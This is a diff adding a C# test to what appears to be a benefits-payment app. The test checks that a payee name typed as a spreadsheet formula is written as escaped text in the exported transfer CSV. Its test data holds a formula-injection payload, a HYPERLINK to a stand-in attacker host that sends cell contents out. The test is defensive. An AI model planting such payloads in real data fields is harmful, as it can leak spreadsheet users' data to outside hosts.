@@ -13,6 +13,33 @@ namespace Amuddu.Web.Tests.Support.Payments;
 public class TransferAndReconcileTests
 {
     [Fact]
+    public async Task A_payee_name_typed_as_a_formula_is_written_as_text_in_the_transfer_file()
+    {
+        await using var app = await AmudduApp.StartAsync();
+        var (_, personId) = await app.RegisterSomeoneAsync("Awa", "Sow", "SN");
+        var officer = await app.ApiClientAsync(Demo.Officer, "en");
+        var programme = await app.SeedProgrammeAsync();
+        var mobile = app.Protector().ProtectText("+212612345678");
+        var application = await app.SeedApprovedAsync(programme, personId, a =>
+        {
+            a.PayeeName = "=HYPERLINK(\"http://evil.example/?d=\"&A1,\"Click\")";
+            a.PayeeChannel = PaymentChannel.MobileMoney;
+            a.PayeeAccountCipher = mobile;
+            a.StartsOn = app.Today.AddMonths(-2);
+        });
+        var tranches = await officer.ContractAsync(application);
+        var order = await officer.OrderedAsync(tranches[0].Id(), "k1");
+
+        var response = await officer.PostAsync("/api/v1/payments/export", null);
+        var bytes = await response.Content.ReadAsByteArrayAsync();
+
+        Assert.Equal(HttpStatusCode.OK, response.StatusCode);
+        Assert.Equal([0xEF, 0xBB, 0xBF], bytes[..3]);
+        var lines = System.Text.Encoding.UTF8.GetString(bytes[3..]).Split("\r\n", StringSplitOptions.RemoveEmptyEntries);
+        Assert.StartsWith($"{order.Str("reference")};\"'=HYPERLINK(\"\"http://evil.example/?d=\"\"&A1,\"\"Click\"\")\";MobileMoney;212612345678;", lines[1], StringComparison.Ordinal);
+    }
+
+    [Fact]
     public async Task Export_writes_the_transfer_file_marks_the_orders_sent_and_downloads_again()
     {
         await using var app = await AmudduApp.StartAsync();
